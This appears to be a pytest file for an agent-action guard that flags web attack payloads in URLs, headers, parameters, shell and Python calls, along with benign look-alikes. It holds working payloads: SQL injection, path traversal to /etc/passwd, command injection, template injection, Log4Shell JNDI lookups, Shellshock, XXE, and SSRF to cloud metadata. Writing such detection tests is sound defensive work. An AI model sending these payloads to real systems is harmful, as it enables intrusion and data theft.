"""Requests that attack their target by their text, and requests that only look alike."""

import shlex

import pytest

from interlock import Action, Engine
from interlock.analyse.addresses.attack_texts import is_attack_address, is_attack_text

ENGINE = Engine()

ATTACKS = [
    "/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--",
    "/item?id=-1+union+all+select+1,2,3",
    "/item?id=1'/**/or/**/1=1--",
    "/item?id=1 AND SLEEP(5)",
    "/item?id=1;DROP TABLE users",
    "/../../../../etc/passwd",
    "/download?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/static/..%252f..%252f..%252fetc/shadow",
    "/view?file=/etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=config.php",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/ping?host=1.1.1.1%0Awhoami",
    "/hello?name={{7*7}}",
    "/hello?name=%7B%7Bconfig.__class__%7D%7D",
    "/?x=${jndi:ldap://198.51.100.9/a}",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/login?user[$ne]=x&password[$ne]=x",
    "/proxy?url=http://169.254.169.254/latest/meta-data/",
]

ORDINARY = [
    "/orders?filter=status eq 'open' or status eq 'new'",
    "/resource.json?$where=a='1' or b='2'",
    "/query?query=SELECT a FROM t UNION SELECT b FROM u",
    "/people?name=O%27Neill",
    "/search?q=o'neill or smith",
    "/assets/../img/logo.png",
    "/templates/7?name={{customer.name}}",
    "/items?sort=-created&limit=10;offset=2",
    "/items?fields=name|id|price",
    "/items?where[status][$ne]=done",
    "/authorize?redirect_uri=http://localhost:3000/callback",
    "/api/v1/query?query=sum(rate(http_requests_total[5m]))",
]


@pytest.mark.parametrize("rest", ATTACKS)
def test_an_attack_in_an_address_is_found_unless_it_is_ones_own_application(rest: str) -> None:
    assert is_attack_address(f"https://shop.acme.com{rest}")
    assert not any(is_attack_address(f"http://{host}{rest}") for host in ("localhost:8000", "10.0.0.5", "app.test"))


@pytest.mark.parametrize("rest", ORDINARY)
def test_ordinary_parameters_are_no_attack(rest: str) -> None:
    assert not is_attack_address(f"https://shop.acme.com{rest}")


def test_a_search_about_attacks_is_none() -> None:
    assert not is_attack_address("https://www.google.com/search?q=%22' or '1'='1%22")
    assert not is_attack_text("How to prevent it: never join texts, since a name like ' OR '1'='1 " + "and so on " * 10)


TEXTS = [
    "1' OR '1'='1",
    "${${lower:j}ndi:ldap://198.51.100.9/a}",
    "() { :; }; /bin/bash -c id",
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
]


@pytest.mark.parametrize("text", TEXTS)
def test_parameters_headers_and_bodies_are_read_in_tools_commands_and_clients(text: str) -> None:
    url = "https://shop.acme.com/item"
    for action in (
        Action(tool_name="http_request", input_payload={"url": url, "headers": {"X-Note": text}}),
        Action(tool_name="api_call", input_payload={"endpoint": url, "params": {"id": text}}),
        Action.shell(shlex.join(["http", "GET", url, f"X-Note:{text}"])),
        Action.python(f"import requests\nrequests.get({url!r}, params={{'id': {text!r}}})"),
    ):
        assert "attack_request" in [finding.rule for finding in ENGINE.decide(action).assessment.findings], action
        assert not ENGINE.decide(action).allowed


def test_the_place_of_an_answer_is_no_attack() -> None:
    assert ENGINE.decide(Action.shell("curl -s https://shop.acme.com/x.json -o ../../out/etc/x.json")).allowed
